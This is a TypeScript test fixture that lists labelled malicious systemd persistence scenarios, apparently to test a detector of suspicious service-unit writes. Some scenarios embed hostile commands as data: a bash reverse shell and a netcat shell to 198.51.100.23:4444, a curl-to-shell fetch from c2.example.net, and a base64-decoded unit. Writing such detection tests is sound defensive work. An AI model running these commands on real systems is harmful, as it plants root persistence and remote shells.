import { ran, scenarios, wrote } from './scenario.ts';

const DIR = '/etc/systemd/system';

const X = `${DIR}/updater.service`;

const SERVICE = '[Service]\\nExecStart=';

const staged = scenarios('malicious', 'persistence', [
  ['copied from /tmp', wrote('root', X, 'cp', `cp /tmp/x.service ${X}`, 'bash')],
  [
    'copied from /tmp behind sudo',
    wrote('root', X, 'sudo', `sudo -u root cp /tmp/x.service ${DIR}/updater.service`, 'bash'),
  ],
  ['moved from /var/tmp', wrote('root', X, 'mv', `mv /var/tmp/x.service ${X}`, 'sh')],
  ['moved from /dev/shm', wrote('root', X, 'mv', `mv /dev/shm/x.service ${X}`, 'sh')],
  [
    'installed from a hidden directory',
    wrote(
      'root',
      '/lib/systemd/system/updater.service',
      'install',
      'install -m 644 /var/tmp/.x/updater.service /lib/systemd/system/',
      'bash',
    ),
  ],
  [
    'linked into the wants of a target',
    wrote(
      'root',
      `${DIR}/multi-user.target.wants/updater.service`,
      'ln',
      `ln -s /dev/shm/updater.service ${DIR}/multi-user.target.wants/updater.service`,
      'bash',
    ),
  ],
  [
    'after a change of directory',
    wrote('root', X, 'sh', `sh -c cd /tmp/u && cp updater.service ${DIR}/`, 'bash'),
  ],
  ['unpacked from /tmp', wrote('root', X, 'tar', `tar -xzf /tmp/u.tgz -C ${DIR}`, 'bash')],
  ['dumped from /tmp', wrote('root', X, 'dd', `dd if=/tmp/u of=${X}`, 'bash')],
  ['by a path with dots', wrote('root', X, 'cp', `cp /usr/lib/../../tmp/x.service ${X}`, 'bash')],
  ['with target directory first', wrote('root', X, 'cp', `cp -t ${DIR} /tmp/updater.service`, 'bash')],
  [
    'link from /tmp',
    ran(
      'deploy',
      'systemctl link /tmp/atomic.service',
      'sh',
      'sh -c systemctl link /tmp/atomic.service',
      'node',
    ),
  ],
  ['link from /var/tmp', ran('dana', 'systemctl --user link /var/tmp/u.service', 'bash', 'bash', 'bash')],
  [
    'enable by a path in /dev/shm',
    ran('root', 'systemctl enable /dev/shm/u.service', 'python3', 'python3 /opt/x/run.py', 'bash'),
  ],
  [
    'link by a path with dots',
    ran('dana', 'systemctl link /home/dana/../../tmp/u.service', 'bash', '-bash', 'sshd-session'),
  ],
]);

const written = scenarios('malicious', 'inline-unit', [
  [
    'printf with a payload in /tmp',
    wrote('root', X, 'bash', `bash -c printf '${SERVICE}/tmp/.u/run\\n' > ${X}`, 'python3'),
  ],
  [
    'echo with a payload in /dev/shm',
    wrote('root', X, 'sh', `sh -c echo "[Service]\nExecStart=/dev/shm/run" > ${X}`, 'bash'),
  ],
  [
    'tee with a payload in /var/tmp',
    wrote('root', X, 'sh', `sh -c echo '${SERVICE}/var/tmp/run' | tee ${X}`, 'bash'),
  ],
  [
    'a here-document',
    wrote(
      'root',
      X,
      'bash',
      `bash -c cat > ${X} <<EOF\n[Unit]\nDescription=u\n[Service]\nExecStart=/tmp/u --daemon\nRestart=always\nEOF`,
      'sshd',
    ),
  ],
  [
    'python writes',
    wrote('root', X, 'python3', `python3 -c open('${X}','w').write('${SERVICE}/usr/bin/u')`, 'sudo'),
  ],
  ['perl writes', wrote('root', X, 'perl', `perl -e open(F,">${X}");print F "${SERVICE}/usr/bin/u"`, 'bash')],
  ['ruby writes', wrote('root', X, 'ruby', `ruby -e File.write("${X}","${SERVICE}/usr/bin/u")`, 'bash')],
  [
    'a reverse shell in the unit',
    wrote(
      'root',
      X,
      'bash',
      `bash -c printf '${SERVICE}/bin/bash -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"' > ${X}`,
      'python3',
    ),
  ],
  [
    'netcat in the unit',
    wrote(
      'root',
      X,
      'bash',
      `bash -c echo '${SERVICE}/bin/sh -c "mkfifo /var/f; nc 198.51.100.23 4444 < /var/f"' > ${X}`,
      'bash',
    ),
  ],
  [
    'curl into a shell in the unit',
    wrote(
      'root',
      X,
      'bash',
      `bash -c echo '${SERVICE}/bin/sh -c "curl -s https://c2.example.net/x | sh"' > ${X}`,
      'bash',
    ),
  ],
  [
    'an interpreter with code in the unit',
    wrote('root', X, 'bash', `bash -c echo '${SERVICE}/usr/bin/python -c "import u"' > ${X}`, 'bash'),
  ],
  ['a decoded unit', wrote('root', X, 'bash', `bash -c echo W1VuaXRd | base64 -d > ${X}`, 'bash')],
  [
    'sed puts a payload into a unit',
    wrote(
      'root',
      `${DIR}/app.service`,
      'sed',
      `sed -i s#ExecStart=.*#ExecStart=/tmp/u# ${DIR}/app.service`,
      'bash',
    ),
  ],
  [
    'a hidden payload',
    wrote('root', X, 'bash', `bash -c echo '${SERVICE}/usr/share/.u/run' > ${X}; ls /tmp/`, 'bash'),
  ],
]);

/** Attacks that where the unit comes from, or what it runs, gives away. */
export const maliciousPersistenceScenarios = [...staged, ...written];
